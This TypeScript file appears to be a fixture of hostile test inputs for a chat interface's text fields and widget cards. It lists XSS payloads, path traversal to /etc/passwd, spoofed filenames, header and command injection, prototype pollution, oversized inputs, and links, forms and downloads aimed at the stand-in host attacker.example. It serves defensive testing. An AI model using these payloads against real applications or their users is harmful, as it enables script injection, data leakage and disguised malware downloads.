// Owns attacks in short texts: titles, names of files, questions, tools, options, cards.

/** Shown as one line somewhere. */
export const nameAttacks: readonly string[] = [
  '<img src=x onerror=attacked()>',
  '"><svg onload=attacked()>',
  "' onmouseover='attacked()",
  '</title><script>attacked()</script>',
  '{{constructor.constructor("attacked()")()}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\a.exe',
  'C:\\Windows\\a.exe',
  'CON',
  'invoice\u202efdp.exe',
  'a\u0000.html',
  'report.pdf.html',
  'a".html; filename="b.exe',
  'x\r\nSet-Cookie: a=b',
  'javascript:attacked()',
  '=HYPERLINK("https://attacker.example","x")',
  '\u2066\u202e\u2069'.repeat(20),
  'ａ'.repeat(500),
  '<a href=javascript:attacked()>x</a>',
  '![x](https://attacker.example/leak.png)',
  '\u001b]8;;https://attacker.example\u0007x\u001b]8;;\u0007',
  'invoice.pdf                                        .exe',
  'a.txt:evil.exe',
  '$(touch a);`touch a`;%COMSPEC%',
  '\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}',
  `a${'\u0301'.repeat(300)}`,
  '\ud83d',
  '</bdi></span><b onclick=attacked()>x</b>',
]

const [image = ''] = nameAttacks
const link = 'javascript:attacked()'
const leak = 'https://attacker.example/leak.png'

/** Views of interactive cards, as the text in which the service sends them. */
export const widgetAttacks: readonly string[] = [
  { type: 'Card', children: [{ type: 'Text', value: image }] },
  { type: 'Card', children: [{ type: 'Markdown', value: `${image} [x](${link}) ![x](${leak})` }] },
  { type: 'Card', children: [{ type: 'Image', src: leak, alt: image }] },
  { type: 'Card', children: [{ type: 'Image', src: link }] },
  { type: 'Card', background: `url(${leak})`, children: [] },
  { type: 'Card', style: { background: `url(${leak})` }, class: 'x', onclick: 'attacked()', children: [] },
  { type: 'Button', label: image, onClickAction: { type: 'sys.go_to_url', payload: { url: link } } },
  { type: 'Button', label: 'x', href: link, onClick: 'attacked()' },
  {
    type: 'Form',
    action: 'https://attacker.example',
    method: 'post',
    children: [{ type: 'Input', name: 'q' }],
  },
  {
    type: 'Form',
    onSubmitAction: { type: '__proto__', payload: {} },
    children: [{ type: 'Button', submit: true, label: 'x' }],
  },
  { type: 'script', children: ['attacked()'] },
  { type: 'iframe', src: link },
  { type: '__proto__', children: [{ type: 'constructor' }] },
  { type: 'Html', html: image },
  { type: 'Icon', name: image },
  { type: 'Chart', option: { graphic: { type: 'image', style: { image: leak } } } },
  { type: 'Table', columns: [image], rows: [[`[x](${link})`]] },
  { type: 'Link', href: link, label: 'x' },
  { type: 'Select', name: 'x', options: [{ label: image, value: link }] },
  Array.from({ length: 60 }).reduce<object>((inner) => ({ type: 'Col', children: [inner] }), {
    type: 'Text',
    value: 'deep',
  }),
  { type: 'Col', children: Array.from({ length: 4000 }, () => ({ type: 'Text', value: 'x' })) },
  { type: 'Card', children: [{ type: 'Text', value: image, editable: { name: image, placeholder: image } }] },
  {
    type: 'Card',
    asForm: true,
    confirm: { label: image, action: { type: image, payload: { __proto__: null, constructor: image } } },
    cancel: { label: 'x', action: { type: 'sys.go_to_url', payload: { url: link } } },
    children: [
      {
        type: 'Form',
        onSubmitAction: { type: 'x' },
        children: [{ type: 'Input', name: '__proto__.attacked' }],
      },
      { type: 'Checkbox', name: 'constructor.prototype.attacked', label: image, defaultChecked: true },
    ],
  },
  {
    type: 'ListView',
    children: [
      {
        type: 'ListViewItem',
        onClickAction: { type: 'sys.go_to_url', payload: { url: link } },
        children: [
          { type: 'Button', label: image, onClickAction: { type: 'sys.chat', payload: { text: image } } },
        ],
      },
    ],
  },
  {
    type: 'Col',
    children: ['file:///etc/passwd', link, 'https://attacker.example/a.exe'].map((url) => ({
      type: 'Button',
      label: 'x',
      onClickAction: { type: 'sys.download', payload: { url, filename: '../../a\u202efdp.exe' } },
    })),
  },
  {
    type: 'Col',
    children: [
      {
        type: 'Title',
        value: image,
        size: `url(${leak})`,
        weight: '"onclick=attacked()',
        color: 'red;background:url(x)',
      },
      { type: 'Badge', label: image, color: `url(${leak})`, style: `background:url(${leak})` },
      { type: 'Icon', name: '__proto__' },
      { type: 'Image', src: 'data:image/svg+xml,<svg onload="attacked()"/>', alt: image },
      { type: 'Video', src: leak, autoplay: true, title: image },
      { type: 'Embed', children: [{ type: 'Text', value: image }, image] },
    ],
  },
  {
    type: 'Markdown',
    value: `<details open><summary>${image}</summary>\n\n\`\`\`mermaid\ngraph TD\n  A["${image}"]\n\`\`\`\n\n</details>`,
  },
  {
    type: 'Chart',
    data: [{ __proto__: null, constructor: 1, x: image, y: 1 }],
    xAxis: { dataKey: 'x' },
    series: [
      { type: 'bar', dataKey: '__proto__', label: image },
      { type: 'line', dataKey: 'constructor', label: `image://${leak}` },
    ],
  },
  {
    type: 'Select',
    name: 'x',
    options: Array.from({ length: 300 }, () => ({ label: image, value: 'same' })),
  },
  { type: 'Card', children: { length: 1e9, 0: { type: 'Text', value: image } } },
  { type: ['Card'], children: [image] },
  { type: 'DatePicker', name: 'x', min: '"onfocus=attacked()', max: '9999-99-99', defaultValue: image },
]
  .map((view) => JSON.stringify(view))
  .concat([
    'null',
    '1e999',
    `"${link}"`,
    `[${JSON.stringify({ type: 'Text', value: image })}]`,
    JSON.stringify(JSON.stringify({ type: 'Text', value: image })),
    `{"type":"Card","__proto__":{"type":"Html"},"children":[{"type":"Text","value":"${image}"}]}`,
    '['.repeat(20_000),
  ])
